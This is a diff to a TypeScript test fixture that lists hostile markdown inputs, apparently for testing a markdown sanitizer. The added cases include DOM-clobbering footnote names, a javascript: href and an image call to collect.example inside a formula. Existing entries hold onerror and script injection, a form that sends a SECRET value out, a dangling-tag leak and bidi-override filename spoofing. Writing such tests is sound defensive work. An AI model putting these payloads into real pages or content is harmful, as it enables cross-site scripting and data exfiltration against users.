@@ -29,6 +29,14 @@ export const hostile: readonly (readonly [name: string, markdown: string])[] = [
   ['alt that breaks out', '![" onerror="alert(1)](https://collect.example/a.png)'],
   ['fence name', '```ts" onclick="alert(1)\nx\n```\n\n~~~</code><script>alert(1)</script>\nx\n~~~'],
   ['heading that takes a name', '# location\n\n## body {#body}\n\n### <a name=getElementById>x</a>'],
+  [
+    'footnotes that take names',
+    'a[^location] b[^body] c[^getElementById]\n\n[^location]: x\n[^body]: ![y](https://collect.example/a.png)\n[^getElementById]: z',
+  ],
+  [
+    'formula that links',
+    '$\\href{javascript:alert(1)}{x}$ \\(\\includegraphics{https://collect.example/a.png}\\)',
+  ],
   ['form', '<form action="https://collect.example/"><input name=q value=SECRET><button>Send</button></form>'],
   ['half a tag', 'text <img src=https://collect.example/a.png?q='],
   ['override', 'safe \u202egnp.exe\u202c and \u2066isolated'],
